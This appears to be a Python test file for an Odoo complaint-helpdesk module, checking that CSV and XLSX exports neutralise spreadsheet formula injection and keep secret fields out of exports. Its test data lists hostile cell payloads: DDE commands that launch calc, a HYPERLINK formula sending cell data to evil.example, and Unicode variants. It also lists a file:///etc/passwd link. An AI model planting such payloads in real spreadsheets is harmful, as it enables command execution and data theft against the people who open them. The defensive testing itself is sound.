import csv
import io
import json
import re
import zipfile

from openpyxl import load_workbook

from odoo import http
from odoo.exceptions import AccessError
from odoo.tests import HttpCase, TransactionCase, tagged

from ..tools import cells
from .common import ComplaintCommon

# What a guest may write as a title, all of it taken as it is (attacks 60, 61).
DANGEROUS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Refund")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "　=1+1",
]
LINKS = ["http://evil.example/", "file:///etc/passwd", "mailto:x@evil.example"]
# What people really write, and what must come back as it was.
ORDINARY = [
    *("Itinerary shortened", "-5", "+86 138 0013 8000", "3.14", "50 %", "'quoted'"),
    *("O'Neill", "第3天的行程缩水", "a=b", "", "حافلة متسخة 😀"),
]


@tagged("post_install", "-at_install")
class TestCells(TransactionCase):
    def test_dangerous_text_is_guarded(self):
        """Attack 62: nothing begins as a formula does, and it can be taken back."""
        for text in DANGEROUS:
            with self.subTest(text=text):
                cell = cells.neutralise(text)
                self.assertEqual(cell, f"'{text}")
                self.assertEqual(cells.restore(cell), text)

    def test_ordinary_text_stays(self):
        """Attack 62: what no program computes is not touched, there and back."""
        for text in [*ORDINARY, *LINKS, 5, -5.5, False, None]:
            with self.subTest(text=text):
                self.assertEqual(cells.neutralise(text), text)
                self.assertEqual(cells.restore(text), text)

    def test_control_characters_go(self):
        """Attacks 61, 63: a character that XML cannot hold is left out."""
        self.assertEqual(cells.clean("=1+1\x0b\x00\ud800"), "=1+1")
        self.assertEqual(cells.clean("two\nlines\there"), "two\nlines\there")


@tagged("post_install", "-at_install")
class TestExport(ComplaintCommon, HttpCase):
    """Attacks 60 to 63, through Odoo's own routes, as the person who exports."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.agent.group_ids += cls.env.ref("base.group_allow_export")
        cls.texts = [*DANGEROUS, *LINKS, *filter(None, ORDINARY)]
        cls.case = cls.create_case(name=DANGEROUS[0], partner_name=DANGEROUS[1])
        cls.contacts = (
            cls.env["travel.complaint.contact"]
            .with_user(cls.agent)
            .create([{"ticket_id": cls.case.id, "summary": text} for text in cls.texts])
        )

    def export(self, kind, records, names, **values):
        """What the real route answers to the agent."""
        self.authenticate(self.agent.login, self.agent.login)
        data = {
            "model": records._name,
            "fields": [{"name": name, "label": name, "type": "char"} for name in names],
            "ids": records.ids,
            "domain": [],
            "import_compat": False,
            **values,
        }
        answer = self.url_open(
            f"/web/export/{kind}",
            data={
                "data": json.dumps(data),
                "csrf_token": http.Request.csrf_token(self),
            },
        )
        self.assertEqual(answer.status_code, 200)
        return answer.content

    def read_sheet(self, content):
        """The cells of a workbook's one sheet, by row."""
        sheet = load_workbook(io.BytesIO(content)).active
        return list(sheet.iter_rows(min_row=2))

    def test_xlsx_holds_text_alone(self):
        """Attack 60: each cell is text; there is no formula and no link in the file."""
        content = self.export("xlsx", self.contacts, ["summary"])
        rows = self.read_sheet(content)
        # Odoo's own writer shows a line break of old Macintoshes as a blank.
        found = [row[0].value for row in rows]
        self.assertEqual(found, [text.replace("\r", " ") for text in self.texts])
        self.assertEqual({row[0].data_type for row in rows}, {"s"})
        self.assertFalse([row[0] for row in rows if row[0].hyperlink])
        with zipfile.ZipFile(io.BytesIO(content)) as file:
            sheet = file.read("xl/worksheets/sheet1.xml").decode()
        self.assertFalse(re.search("<f[ >]|<hyperlink", sheet))

    def test_xlsx_of_groups(self):
        """Attack 60: headings of groups are text as well."""
        content = self.export(
            "xlsx", self.case, ["number", "name", "partner_name"], groupby=["name"]
        )
        values = [
            cell for row in self.read_sheet(content) for cell in row if cell.value
        ]
        self.assertIn(DANGEROUS[1], [cell.value for cell in values])
        self.assertLessEqual({cell.data_type for cell in values}, {"s", "n"})

    def test_xlsx_with_control_characters_opens(self):
        """Attack 61: a character that Excel refuses does not spoil the workbook."""
        self.env.flush_all()
        self.env.cr.execute(
            "UPDATE travel_complaint_contact SET summary = %s WHERE id = %s",
            ["=1+1\x0b\x01", self.contacts[0].id],
        )
        self.env.invalidate_all()
        content = self.export("xlsx", self.contacts[0], ["summary"])
        self.assertEqual(self.read_sheet(content)[0][0].value, "=1+1")

    def test_xlsx_with_a_long_text_opens(self):
        """Attack 63: a text that no cell can hold leaves a hint."""
        contact = self.contacts.create(
            {"ticket_id": self.case.id, "summary": "=" + "x" * 40_000}
        )
        content = self.export("xlsx", contact, ["summary"])
        self.assertIn("too long", self.read_sheet(content)[0][0].value)

    def test_csv_is_guarded(self):
        """Attack 62: no cell of a CSV file begins as a formula does."""
        content = self.export("csv", self.contacts, ["summary"]).decode()
        rows = list(csv.reader(io.StringIO(content, newline="")))[1:]
        self.assertEqual(
            [row[0] for row in rows], [cells.neutralise(text) for text in self.texts]
        )
        self.assertEqual(rows[0][0][0], "'")

    def test_what_was_exported_can_be_imported(self):
        """Attack 62: an import takes the guard away again; ordinary values stay."""
        texts = ["=not a formula", "@us", "-5", "+86 138 0013 8000", "'quoted'", "a"]
        result = (
            self.env["helpdesk.ticket"]
            .with_user(self.agent)
            .load(
                [
                    "name",
                    "description",
                    "complaint_kind",
                    "team_id/.id",
                    "partner_name",
                ],
                [
                    [
                        "Imported",
                        "x",
                        "complaint",
                        str(self.team.id),
                        cells.neutralise(text),
                    ]
                    for text in texts
                ],
            )
        )
        self.assertFalse(result["messages"])
        found = self.env["helpdesk.ticket"].browse(result["ids"])
        self.assertEqual(found.mapped("partner_name"), texts)

    def test_nobody_exports_secrets(self):
        """Attack 65: a field that one may not read is not exported either."""
        for name in ("access_token", "submit_key"):
            case = self.case.with_user(self.agent)
            with self.subTest(field=name), self.assertRaises(AccessError):
                case.export_data([name])
